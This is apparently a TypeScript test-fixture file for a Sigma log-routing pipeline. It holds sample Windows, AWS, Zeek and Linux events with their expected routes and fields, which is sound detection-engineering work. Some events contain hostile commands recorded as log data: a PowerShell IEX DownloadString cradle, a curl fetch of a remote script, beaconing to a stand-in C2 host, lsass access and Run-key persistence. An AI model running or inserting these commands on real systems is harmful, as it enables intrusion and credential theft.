/**
 * Test fixtures (used only by the pipeline tests): raw events in the shapes real tools write, the
 * Sigma logsource each belongs to, every pipeline route it must satisfy (exactly: satisfying any
 * other route is a routing bug), and Sigma fields with the value the event carries for them.
 * Windows records are rendered in all three JSON shapes by the ingest tests' renderers.
 */
import type { WinSample } from '../../ingest/formats/windows-samples.fixture.ts';
import type { SigmaLogsource } from './resolve.ts';

export interface RoutingCase {
  name: string;
  logsource: SigmaLogsource;
  /** Every route (`pipeline/id`) the parsed event satisfies. */
  routes: string[];
  /** Sigma field → the value the event holds for it under the logsource's mapping. */
  fields: Record<string, string | number>;
}

export interface WindowsCase extends RoutingCase {
  sample: WinSample;
}
export interface RawCase extends RoutingCase {
  raw: string;
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const SYSMON_P = 'Microsoft-Windows-Sysmon';
const SEC_P = 'Microsoft-Windows-Security-Auditing';
const base = { computer: 'WS01.corp.example', time: '2026-11-22T10:00:00Z', record: 7001 };
const sysmonBase = {
  RuleName: '-',
  UtcTime: '2026-11-22 10:00:00.123',
  ProcessGuid: '{aa-1}',
  ProcessId: '4242',
};
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const sysmonRoutes = (...cats: string[]): string[] => [
  ...cats.map((c) => `windows/${c}`),
  'windows/svc-sysmon',
  'windows/any',
];

export const WINDOWS_CASES: WindowsCase[] = [
  {
    name: 'Sysmon 1 process creation',
    sample: {
      ...base,
      id: 1,
      channel: SYSMON,
      provider: SYSMON_P,
      data: {
        ...sysmonBase,
        Image: CMD,
        OriginalFileName: 'Cmd.Exe',
        CommandLine: 'cmd.exe /c whoami /all',
        CurrentDirectory: 'C:\\Users\\bob\\',
        User: 'CORP\\bob',
        IntegrityLevel: 'High',
        Hashes: 'SHA256=9A3C0F0E,IMPHASH=ABCDEF01',
        ParentProcessId: '1000',
        ParentImage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
        ParentCommandLine: '"WINWORD.EXE" /n invoice.docm',
      },
    },
    logsource: { product: 'windows', category: 'process_creation' },
    routes: sysmonRoutes('process_creation'),
    fields: {
      Image: CMD,
      CommandLine: 'cmd.exe /c whoami /all',
      ParentImage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
      ParentCommandLine: '"WINWORD.EXE" /n invoice.docm',
      OriginalFileName: 'Cmd.Exe',
      User: 'CORP\\bob',
      IntegrityLevel: 'High',
      Hashes: 'SHA256=9A3C0F0E,IMPHASH=ABCDEF01',
      ProcessId: 4242,
      ParentProcessId: 1000,
      EventID: 1,
      sha256: '9a3c0f0e',
    },
  },
  {
    name: 'Security 4688 process creation',
    sample: {
      ...base,
      id: 4688,
      channel: 'Security',
      provider: SEC_P,
      data: {
        SubjectUserName: 'bob',
        SubjectDomainName: 'CORP',
        NewProcessId: '0x1092',
        NewProcessName: 'C:\\Windows\\System32\\rundll32.exe',
        ProcessId: '0x3e8',
        CommandLine: 'rundll32.exe evil.dll,Start',
        ParentProcessName: 'C:\\Windows\\explorer.exe',
      },
    },
    logsource: { product: 'windows', category: 'process_creation' },
    routes: ['windows/process_creation', 'windows/svc-security', 'windows/any'],
    fields: {
      Image: 'C:\\Windows\\System32\\rundll32.exe',
      CommandLine: 'rundll32.exe evil.dll,Start',
      ParentImage: 'C:\\Windows\\explorer.exe',
      ProcessId: 0x1092,
      ParentProcessId: 0x3e8,
    },
  },
  {
    name: 'Sysmon 3 network connection',
    sample: {
      ...base,
      id: 3,
      channel: SYSMON,
      provider: SYSMON_P,
      data: {
        ...sysmonBase,
        Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\beacon.exe',
        User: 'CORP\\bob',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.1.2.3',
        SourcePort: '50123',
        DestinationIp: '203.0.113.9',
        DestinationHostname: 'c2.example.net',
        DestinationPort: '443',
      },
    },
    logsource: { product: 'windows', category: 'network_connection' },
    routes: sysmonRoutes('network_connection'),
    fields: {
      Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\beacon.exe',
      Initiated: 'true',
      DestinationIp: '203.0.113.9',
      DestinationPort: '443',
      DestinationHostname: 'c2.example.net',
    },
  },
  {
    name: 'Sysmon 13 registry value set',
    sample: {
      ...base,
      id: 13,
      channel: SYSMON,
      provider: SYSMON_P,
      data: {
        ...sysmonBase,
        EventType: 'SetValue',
        Image: CMD,
        TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
        Details: 'C:\\Users\\Public\\upd.exe',
      },
    },
    logsource: { product: 'windows', category: 'registry_set' },
    routes: sysmonRoutes('registry_event', 'registry_set'),
    fields: {
      TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
      Details: 'C:\\Users\\Public\\upd.exe',
      Image: CMD,
      EventType: 'SetValue',
    },
  },
  {
    name: 'Sysmon 12 registry key delete',
    sample: {
      ...base,
      id: 12,
      channel: SYSMON,
      provider: SYSMON_P,
      data: {
        ...sysmonBase,
        EventType: 'DeleteKey',
        Image: CMD,
        TargetObject: 'HKLM\\SOFTWARE\\Policies\\Defender',
      },
    },
    logsource: { product: 'windows', category: 'registry_delete' },
    routes: sysmonRoutes('registry_event', 'registry_delete'),
    fields: { TargetObject: 'HKLM\\SOFTWARE\\Policies\\Defender', EventType: 'DeleteKey' },
  },
  {
    name: 'Sysmon 12 registry key create',
    sample: {
      ...base,
      id: 12,
      channel: SYSMON,
      provider: SYSMON_P,
      data: { ...sysmonBase, EventType: 'CreateKey', Image: CMD, TargetObject: 'HKLM\\SOFTWARE\\Evil' },
    },
    logsource: { product: 'windows', category: 'registry_add' },
    routes: sysmonRoutes('registry_event', 'registry_add'),
    fields: { TargetObject: 'HKLM\\SOFTWARE\\Evil' },
  },
  {
    name: 'Sysmon 22 DNS query',
    sample: {
      ...base,
      id: 22,
      channel: SYSMON,
      provider: SYSMON_P,
      data: {
        ...sysmonBase,
        QueryName: 'c2.example.net',
        QueryStatus: '0',
        QueryResults: '::ffff:203.0.113.9;',
        Image: CMD,
      },
    },
    logsource: { product: 'windows', category: 'dns_query' },
    routes: sysmonRoutes('dns_query'),
    fields: { QueryName: 'c2.example.net', Image: CMD },
  },
  {
    name: 'Sysmon 11 file create',
    sample: {
      ...base,
      id: 11,
      channel: SYSMON,
      provider: SYSMON_P,
      data: { ...sysmonBase, Image: CMD, TargetFilename: 'C:\\Users\\Public\\a.ps1' },
    },
    logsource: { product: 'windows', category: 'file_event' },
    routes: sysmonRoutes('file_event'),
    fields: { TargetFilename: 'C:\\Users\\Public\\a.ps1', Image: CMD },
  },
  {
    name: 'Sysmon 10 process access',
    sample: {
      ...base,
      id: 10,
      channel: SYSMON,
      provider: SYSMON_P,
      data: {
        RuleName: '-',
        UtcTime: '2026-11-22 10:00:00.123',
        SourceImage: 'C:\\Temp\\mimi.exe',
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1010',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF8)',
      },
    },
    logsource: { product: 'windows', category: 'process_access' },
    routes: sysmonRoutes('process_access'),
    fields: {
      SourceImage: 'C:\\Temp\\mimi.exe',
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1010',
    },
  },
  {
    name: 'Sysmon 7 image load',
    sample: {
      ...base,
      id: 7,
      channel: SYSMON,
      provider: SYSMON_P,
      data: { ...sysmonBase, Image: CMD, ImageLoaded: 'C:\\Temp\\evil.dll', Signed: 'false' },
    },
    logsource: { product: 'windows', category: 'image_load' },
    routes: sysmonRoutes('image_load'),
    fields: { ImageLoaded: 'C:\\Temp\\evil.dll', Signed: 'false', Image: CMD },
  },
  {
    name: 'PowerShell 4104 script block',
    sample: {
      ...base,
      id: 4104,
      channel: 'Microsoft-Windows-PowerShell/Operational',
      provider: 'Microsoft-Windows-PowerShell',
      data: {
        MessageNumber: '1',
        MessageTotal: '1',
        ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
        ScriptBlockId: '{bb-2}',
      },
    },
    logsource: { product: 'windows', category: 'ps_script' },
    routes: ['windows/ps_script', 'windows/svc-powershell', 'windows/any'],
    fields: { ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")', EventID: 4104 },
  },
  {
    name: 'Security 4624 logon',
    sample: {
      ...base,
      id: 4624,
      channel: 'Security',
      provider: SEC_P,
      data: {
        TargetUserName: 'admin',
        TargetDomainName: 'CORP',
        LogonType: '10',
        IpAddress: '198.51.100.7',
        AuthenticationPackageName: 'Negotiate',
      },
    },
    logsource: { product: 'windows', service: 'security' },
    routes: ['windows/svc-security', 'windows/any'],
    fields: { EventID: 4624, TargetUserName: 'admin', LogonType: '10', IpAddress: '198.51.100.7' },
  },
  {
    name: 'System 7045 service installed',
    sample: {
      ...base,
      id: 7045,
      channel: 'System',
      provider: 'Service Control Manager',
      data: {
        ServiceName: 'PSEXESVC',
        ImagePath: '%SystemRoot%\\PSEXESVC.exe',
        ServiceType: 'user mode service',
        StartType: 'demand start',
        AccountName: 'LocalSystem',
      },
    },
    logsource: { product: 'windows', service: 'system' },
    routes: ['windows/svc-system', 'windows/any'],
    fields: {
      EventID: 7045,
      Provider_Name: 'Service Control Manager',
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
    },
  },
];

const json = (o: unknown): string => JSON.stringify(o);

export const RAW_CASES: RawCase[] = [
  {
    name: 'CloudTrail record',
    raw: json({
      eventVersion: '1.08',
      userIdentity: {
        type: 'IAMUser',
        arn: 'arn:aws:iam::111122223333:user/bob',
        accountId: '111122223333',
        userName: 'bob',
      },
      eventTime: '2026-11-22T10:00:00Z',
      eventSource: 'iam.amazonaws.com',
      eventName: 'CreateAccessKey',
      awsRegion: 'us-east-1',
      sourceIPAddress: '198.51.100.7',
      userAgent: 'aws-cli/2.15.0',
      errorCode: 'AccessDenied',
      requestParameters: { userName: 'eve' },
      responseElements: null,
      eventType: 'AwsApiCall',
      recipientAccountId: '111122223333',
    }),
    logsource: { product: 'aws', service: 'cloudtrail' },
    routes: ['aws/cloudtrail'],
    fields: {
      eventName: 'CreateAccessKey',
      eventSource: 'iam.amazonaws.com',
      'userIdentity.arn': 'arn:aws:iam::111122223333:user/bob',
      'userIdentity.type': 'IAMUser',
      errorCode: 'AccessDenied',
      sourceIPAddress: '198.51.100.7',
      'requestParameters.userName': 'eve',
      eventType: 'AwsApiCall',
    },
  },
  {
    name: 'Zeek dns',
    raw: json({
      ts: 1795341600.5,
      uid: 'CdnS1',
      'id.orig_h': '10.1.2.3',
      'id.orig_p': 53001,
      'id.resp_h': '10.0.0.53',
      'id.resp_p': 53,
      proto: 'udp',
      query: 'c2.example.net',
      qtype_name: 'TXT',
      answers: ['aGVsbG8='],
      rejected: false,
      _path: 'dns',
    }),
    logsource: { product: 'zeek', service: 'dns' },
    routes: ['zeek/dns', 'network/dns', 'network/network-dns'],
    fields: { query: 'c2.example.net', qtype_name: 'TXT', 'id.resp_p': 53, answers: 'aGVsbG8=' },
  },
  {
    name: 'Zeek http',
    raw: json({
      ts: 1795341600.5,
      uid: 'Chttp1',
      'id.orig_h': '10.1.2.3',
      'id.orig_p': 50000,
      'id.resp_h': '203.0.113.9',
      'id.resp_p': 80,
      method: 'GET',
      host: 'c2.example.net',
      uri: '/gate.php?id=1',
      user_agent: 'Mozilla/4.0 (compatible; MSIE 6.0)',
      status_code: 200,
      _path: 'http',
    }),
    logsource: { product: 'zeek', service: 'http' },
    routes: ['zeek/http', 'zeek/proxy'],
    fields: {
      uri: '/gate.php?id=1',
      'c-uri': '/gate.php?id=1',
      'c-useragent': 'Mozilla/4.0 (compatible; MSIE 6.0)',
      host: 'c2.example.net',
      'id.resp_h': '203.0.113.9',
    },
  },
  {
    name: 'Zeek conn',
    raw: json({
      ts: 1795341600.5,
      uid: 'Cconn1',
      'id.orig_h': '10.1.2.3',
      'id.orig_p': 50000,
      'id.resp_h': '203.0.113.9',
      'id.resp_p': 445,
      proto: 'tcp',
      conn_state: 'S0',
      _path: 'conn',
    }),
    logsource: { category: 'network', service: 'connection' },
    routes: ['zeek/conn', 'network/network-connection'],
    fields: { 'destination.port': 445, 'source.ip': '10.1.2.3' },
  },
  {
    name: 'syslog sshd (RFC 3164, auth facility)',
    raw: '<38>Nov 22 10:00:00 web1 sshd[123]: Failed password for root from 198.51.100.7 port 50022 ssh2',
    logsource: { product: 'linux', service: 'sshd' },
    routes: ['linux/any', 'linux/syslog', 'linux/auth', 'linux/sshd'],
    fields: { 'process.name': 'sshd', message: 'Failed password for root from 198.51.100.7 port 50022 ssh2' },
  },
  {
    name: 'syslog sudo (RFC 5424, authpriv facility)',
    raw: '<86>1 2026-11-22T10:00:00Z web1 sudo - - - bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh',
    logsource: { product: 'linux', service: 'sudo' },
    routes: ['linux/any', 'linux/syslog', 'linux/auth', 'linux/sudo'],
    fields: { 'log.syslog.appname': 'sudo' },
  },
  {
    name: 'syslog cron (cron facility)',
    raw: '<78>Nov 22 10:00:00 web1 CRON[999]: (root) CMD (/usr/local/bin/backup.sh)',
    logsource: { product: 'linux', service: 'cron' },
    routes: ['linux/any', 'linux/syslog', 'linux/cron'],
    fields: { 'process.name': 'CRON' },
  },
  {
    name: 'ECS process start from a Linux endpoint agent',
    raw: json({
      '@timestamp': '2026-11-22T10:00:00Z',
      event: { kind: 'event', category: ['process'], type: ['start'], module: 'auditd' },
      host: { name: 'web1', os: { type: 'linux' } },
      process: {
        pid: 4321,
        executable: '/usr/bin/curl',
        command_line: 'curl -s http://203.0.113.9/x.sh',
        parent: { pid: 4000, executable: '/bin/bash', command_line: 'bash -i' },
      },
      user: { name: 'www-data' },
    }),
    logsource: { product: 'linux', category: 'process_creation' },
    routes: ['linux/any', 'linux/process_creation'],
    fields: {
      Image: '/usr/bin/curl',
      CommandLine: 'curl -s http://203.0.113.9/x.sh',
      ParentImage: '/bin/bash',
      ParentCommandLine: 'bash -i',
      User: 'www-data',
      ProcessId: 4321,
    },
  },
];
